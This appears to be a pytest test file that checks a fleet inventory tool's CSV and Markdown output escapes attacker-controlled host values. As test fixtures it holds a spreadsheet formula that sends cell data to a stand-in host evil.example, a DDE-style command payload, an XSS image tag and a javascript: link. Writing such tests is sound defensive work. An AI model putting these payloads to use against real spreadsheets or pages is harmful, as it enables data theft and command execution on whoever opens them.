"""`fleet facts --format csv|md` with host values an attacker on a host controls (issue 26): no formula cell in CSV
(OWASP's CSV-injection rule), no raw HTML and no link in Markdown, as a renderer reads it."""

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from test_facts_formats import fleet

DATA = Path(__file__).resolve().parents[1] / "data"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
HTML = '<img src=x onerror="alert(1)">'
LINK = "[click](javascript:alert(1))"


@pytest.fixture
def hostile(tmp_path):
    facts = tmp_path / "facts"
    facts.mkdir()
    h100 = json.loads((DATA / "h100-device" / "h100-device.json").read_text())
    h100["system"]["hostname"] = FORMULA
    h100["system"]["kernel"] = HTML
    h100["system"]["os_pretty"] = LINK
    h100["env"]["LD_LIBRARY_PATH"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    (facts / "h100-device.json").write_text(json.dumps(h100))
    shutil.copy(DATA / "records" / "a100-470.json", facts / "a100-470.json")
    inv = tmp_path / "fleet.yaml"
    inv.write_text("hosts:\n  h100-device: {address: 203.0.113.10}\n  a100-470: {address: 203.0.113.11}\n")
    return str(inv)


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(hostile):
    code, out, _ = fleet("facts", hostile, "--cached", "--format", "csv")
    assert code == 0
    rows = list(csv.reader(io.StringIO(out)))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r") or cell[:1] == "-" and cell != "-"]
    by_fact = {row[0]: row for row in rows}
    assert by_fact["system.hostname"][2] == "'" + FORMULA                 # the value kept, made inert
    assert by_fact["env.LD_LIBRARY_PATH"][2] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_markdown_renders_no_tag_and_no_link_from_a_host_value(hostile):
    code, out, _ = fleet("facts", hostile, "--cached", "--format", "md")
    assert code == 0
    renderer = MarkdownIt("commonmark", {"html": True}).enable("table")
    renderer.validateLink = lambda url: True          # a renderer that trusts links, as many previewers do
    page = renderer.render(out)
    assert "<img" not in page and "<a " not in page and "href=\"javascript" not in page
    assert "&lt;img src=x onerror=" in page            # the value shown as text
    assert "[click](javascript:alert(1))" in page
